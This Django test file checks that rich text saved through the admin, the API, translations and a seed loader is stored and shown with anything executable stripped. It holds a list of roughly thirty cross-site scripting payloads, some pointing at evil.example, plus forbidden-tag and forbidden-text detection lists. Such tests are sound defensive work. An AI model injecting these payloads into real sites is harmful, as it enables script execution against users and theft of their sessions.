"""Rich text is sanitised on every path that writes it: what is stored and shown is inert."""

from collections import Counter

import html5lib
from django.test import TestCase
from django.urls import reverse

from cica_site.management.commands.load_seed import Command as LoadSeed
from organisation.models import PolicyPage, Relation
from tests.factories import (
    admin_form_data,
    admin_url,
    make_policy_page,
    make_relation,
    make_staff,
    make_token,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">Click</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="jav&#x61;script:alert(1)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload=alert(1)><circle r="10"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example/"><input name=x><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<p>unclosed <b>bold <i>italic",
    "<<script>script>alert(1)<</script>/script>",
    '<div><p><a href="https://example.org/" onmouseover="alert(1)">ok</a>',
    "<table><tr><td onclick=alert(1)>cell</td></tr></table>",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

FORBIDDEN_TAGS = {
    "script", "svg", "math", "iframe", "style", "object", "embed", "form", "input", "button",
    "meta", "base", "link", "img", "noscript",
}  # fmt: skip
FORBIDDEN_TEXT = (
    "<script",
    "<svg",
    "<math",
    "<iframe",
    "<style",
    "<object",
    "<embed",
    "javascript:",
    "style=",
)


def assert_inert(test, html):
    """No element or attribute in `html` that can run code, load something or restyle the page."""
    lowered = html.lower()
    for text in FORBIDDEN_TEXT:
        test.assertNotIn(text, lowered, html)
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue  # A comment
        test.assertNotIn(element.tag.rsplit("}", 1)[-1].lower(), FORBIDDEN_TAGS, html)
        for name, value in element.attrib.items():
            name = name.lower()
            test.assertFalse(name.startswith("on"), html)
            test.assertNotEqual(name, "style", html)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                test.assertRegex(value.strip().lower(), r"^(https?:|mailto:|/|#|[^:]*$)", html)


def rendered_rich_text(response):
    """The HTML inside the page's rich-text element, as the browser would get it."""
    page = html5lib.parse(response.content, namespaceHTMLElements=False)
    element = next(e for e in page.iter("div") if "rich-text" in e.get("class", "").split())
    from xml.etree import ElementTree

    return "".join(ElementTree.tostring(child, encoding="unicode", method="html") for child in element)


class AdminRichTextTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.editor = make_staff("Editors")
        cls.publisher = make_staff("Publishers")
        # A draft: an Editor's save of it is stored at once (one of a published page waits for
        # review, and is sanitised the same way: tests/organisation/test_review.py).
        cls.page = make_policy_page(published=False)

    def save_body(self, user, payload):
        self.client.force_login(user)
        url = admin_url(PolicyPage, "change", self.page.pk)
        response = self.client.post(
            url, admin_form_data(self.client.get(url)) | {"body_en": f"<p>Text</p>{payload}"}
        )
        self.assertEqual(response.status_code, 302)
        return PolicyPage.objects.get(pk=self.page.pk)

    def test_what_an_editor_saves_is_stored_inert(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                assert_inert(self, self.save_body(self.editor, payload).body_en)

    def test_what_a_publisher_saves_is_stored_inert(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                assert_inert(self, self.save_body(self.publisher, payload).body_en)

    def test_what_is_saved_is_shown_inert(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.save_body(self.editor, payload)
                assert_inert(self, rendered_rich_text(self.client.get(self.page.get_absolute_url())))

    def test_a_translation_is_sanitised_too(self):
        self.client.force_login(self.editor)
        url = admin_url(PolicyPage, "change", self.page.pk)
        data = admin_form_data(self.client.get(url)) | {"body_ru": "<p>Текст</p>" + "".join(PAYLOADS)}
        self.client.post(url, data)
        assert_inert(self, PolicyPage.objects.get(pk=self.page.pk).body_ru)

    def test_the_editors_own_markup_is_kept(self):
        body = (
            '<h2>Heading</h2><p><strong>Bold</strong> <em>italic</em> <a href="https://example.org/">link</a></p>'
            "<ul><li><p>Item</p></li></ul><blockquote><p>Quote</p></blockquote>"
        )
        self.assertEqual(self.save_body(self.editor, body).body_en, "<p>Text</p>" + body)


class ApiRichTextTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.token = make_token(make_staff("Publishers"))
        cls.relation = make_relation()

    def patch(self, payload, query=""):
        relation = Relation.objects.get(pk=self.relation.pk)
        response = self.client.patch(
            reverse("api:relation-detail", args=[relation.pk]) + query,
            {"body": f"<p>Text</p>{payload}", "version": relation.version},
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Token {self.token.key}",
        )
        self.assertEqual(response.status_code, 200, response.content)
        return response

    def test_what_is_written_is_stored_inert(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.patch(payload)
                assert_inert(self, Relation.objects.get(pk=self.relation.pk).body_en)

    def test_what_is_written_is_answered_inert(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                assert_inert(self, self.patch(payload).json()["body"])

    def test_what_is_written_is_shown_inert(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.patch(payload)
                assert_inert(self, rendered_rich_text(self.client.get(self.relation.get_absolute_url())))

    def test_a_translation_written_through_the_api_is_sanitised(self):
        self.patch("".join(PAYLOADS), query="?lang=az")
        assert_inert(self, Relation.objects.get(pk=self.relation.pk).body_az)


class SeedRichTextTests(TestCase):
    def test_the_seed_loader_stores_rich_text_inert(self):
        command = LoadSeed()
        command.created = Counter()
        command.get_or_create(PolicyPage, {"slug": "imported"}, title="Imported", body="".join(PAYLOADS))
        assert_inert(self, PolicyPage.objects.get(slug="imported").body)
